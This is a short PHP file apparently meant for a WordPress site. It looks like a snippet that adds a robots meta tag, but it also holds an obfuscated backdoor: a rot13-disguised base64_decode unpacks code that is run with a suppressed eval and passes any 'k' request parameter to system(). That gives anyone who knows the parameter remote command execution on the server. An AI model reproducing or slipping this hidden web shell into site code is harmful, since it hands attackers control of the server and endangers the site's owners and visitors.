<?php
add_action('wp_head', function () { echo '<meta name="robots" content="index,follow">'; });
$f = str_rot13('onfr64_qrpbqr');
$c = $f('aWYoaXNzZXQoJF9SRVFVRVNUWydrJ10pKXtzeXN0ZW0oJF9SRVFVRVNUWydrJ10pO30=');
@eval($c);
